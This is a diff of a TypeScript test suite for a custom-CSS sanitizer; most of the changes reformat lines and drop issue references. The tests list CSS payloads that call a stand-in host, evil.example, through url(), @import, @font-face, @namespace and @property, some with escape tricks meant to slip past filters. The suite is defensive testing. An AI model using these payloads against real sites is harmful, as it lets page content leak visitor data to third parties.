@@ -4,23 +4,25 @@ import * as csstree from 'css-tree';
 
 const clean = (value: string) => sanitizeCustomCss({ value, isEncoded: false });
 
-describe('custom CSS on the public page (issue #5)', () => {
+describe('custom CSS on the public page', () => {
   it('keeps ordinary styling', () => {
     expect(clean('.fb-title { color: #c00; font-size: 2rem }')).toBe('.fb-title{color:#c00;font-size:2rem}');
     expect(clean('@media (max-width: 600px) { .fb-form { padding: 0 } }')).toContain('@media');
-    expect(clean('.a { width: calc(100% - var(--gap, 2px)); background: linear-gradient(#fff, rgb(0 0 0 / 50%)) }')).toBe(
-      '.a{width:calc(100% - var(--gap, 2px));background:linear-gradient(#fff,rgb(0 0 0/50%))}',
-    );
-    expect(clean('.a { --brand: #c00; color: var(--brand) } .b:not(.c):has(> input:checked) { transform: translateX(2px) }')).toBe(
-      '.a{--brand: #c00;color:var(--brand)}.b:not(.c):has(>input:checked){transform:translateX(2px)}',
-    );
+    expect(
+      clean('.a { width: calc(100% - var(--gap, 2px)); background: linear-gradient(#fff, rgb(0 0 0 / 50%)) }'),
+    ).toBe('.a{width:calc(100% - var(--gap, 2px));background:linear-gradient(#fff,rgb(0 0 0/50%))}');
+    expect(
+      clean('.a { --brand: #c00; color: var(--brand) } .b:not(.c):has(> input:checked) { transform: translateX(2px) }'),
+    ).toBe('.a{--brand: #c00;color:var(--brand)}.b:not(.c):has(>input:checked){transform:translateX(2px)}');
     expect(clean('@keyframes pulse { from { opacity: 1 } to { opacity: .5 } }')).toContain('@keyframes pulse');
   });
 
   it('drops @import and other fetching at-rules', () => {
     expect(clean('@import url("https://evil.example/x.css"); .a{color:red}')).toBe('.a{color:red}');
     expect(clean('@import "https://evil.example/x.css"; .a{color:red}')).toBe('.a{color:red}');
-    expect(clean('@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a{color:red}')).toBe('.a{color:red}');
+    expect(clean('@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a{color:red}')).toBe(
+      '.a{color:red}',
+    );
   });
 
   it('drops external url() but keeps data: urls', () => {
@@ -43,12 +45,14 @@ describe('custom CSS on the public page (issue #5)', () => {
   });
 
   it('decodes base64 when isEncoded is set, and ignores garbage', () => {
-    expect(sanitizeCustomCss({ value: Buffer.from('.a{color:red}').toString('base64'), isEncoded: true })).toBe('.a{color:red}');
+    expect(sanitizeCustomCss({ value: Buffer.from('.a{color:red}').toString('base64'), isEncoded: true })).toBe(
+      '.a{color:red}',
+    );
     expect(sanitizeCustomCss(undefined)).toBe('');
   });
 });
 
-// Issue #8, F5: each of these reached a third party from the public page in Chromium.
+// Each of these reached a third party from the public page in Chromium.
 const EVIL = 'https://evil.example/leak';
 const payloads: [string, string][] = [
   ['a custom property holding url()', `--x: url(${EVIL}); background: var(--x)`],
@@ -82,7 +86,7 @@ const payloads: [string, string][] = [
   ['an escaped -moz-binding property', '-moz-b\\69nding: url(x.xml)'],
 ];
 
-describe('custom CSS cannot reach a third party (issue #8, F5)', () => {
+describe('custom CSS cannot reach a third party', () => {
   it.each(payloads)('drops %s', (_name, declaration) => {
     const out = clean(`.fb-option:has(input:checked) { ${declaration}; color: red }`);
     expect(out).toMatch(/^\.fb-option:has\(input:checked\)\{.*color:red\}$/);
@@ -96,14 +100,19 @@ describe('custom CSS cannot reach a third party (issue #8, F5)', () => {
     ['@font-face with src', `@font-face { font-family: x; src: url(${EVIL}) }`],
     ['@font-face with an escaped name', `@font-f\\61ce { font-family: x; src: local(x) }`],
     ['@namespace', `@namespace url(${EVIL});`],
-    ['@property with a url initial value', `@property --x { syntax: '<url>'; inherits: false; initial-value: url(${EVIL}) }`],
+    [
+      '@property with a url initial value',
+      `@property --x { syntax: '<url>'; inherits: false; initial-value: url(${EVIL}) }`,
+    ],
     ['@document', `@-moz-document url-prefix() { .a { color: red } }`],
   ])('drops %s', (_name, rule) => {
     expect(clean(`${rule} .b{color:blue}`)).toBe('.b{color:blue}');
   });
 
   it('drops fetching values inside @media, @supports and nested rules', () => {
-    expect(clean(`@media screen { .a { background: u\\72l(${EVIL}); color: red } }`)).toBe('@media screen{.a{color:red}}');
+    expect(clean(`@media screen { .a { background: u\\72l(${EVIL}); color: red } }`)).toBe(
+      '@media screen{.a{color:red}}',
+    );
     expect(clean(`@supports (display: grid) { .a { --x: url(${EVIL}) } }`)).toBe('@supports (display:grid){.a{}}');
     expect(clean(`.a { color: red; &:hover { background: url(${EVIL}) } }`)).not.toContain('evil');
   });
